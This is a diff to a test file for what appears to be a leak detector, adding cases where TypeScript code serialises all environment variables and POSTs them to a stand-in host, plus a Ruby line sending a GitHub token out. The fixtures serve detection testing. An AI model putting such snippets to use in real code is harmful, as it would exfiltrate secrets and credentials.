@@ -43,6 +43,21 @@ test('private data is followed through loops, functions, fields and files', () =
   ).toEqual(['send-secret']);
 });
 
+test('types of parameters and results do not hide a function', () => {
+  const send = 'fetch("https://a.example", { method: "POST", body: all });';
+  const body = `{\n  const all = JSON.stringify(process.env);\n  ${send}\n}\n`;
+  check('a.ts', `async function leak(): Promise<void> ${body}`, ['send-private']);
+  check('a.ts', `const leak = async (a: string): Promise<Map<string, string>> => ${body}`, ['send-private']);
+  check('a.ts', `export class A extends B<string> {\n  async leak(a: string): Promise<void> ${body}}\n`, [
+    'send-private',
+  ]);
+  check(
+    'a.ts',
+    `function send(name: Map<string, string>, all: string): void {\n  ${send}\n}\nsend(a, process.env);\n`,
+    ['send-private'],
+  );
+});
+
 test('languages are followed by one table', () => {
   check('a.rb', 'key = ENV["GITHUB_TOKEN"]\nNet::HTTP.post(URI("https://a.example"), key)\n', [
     'send-secret',
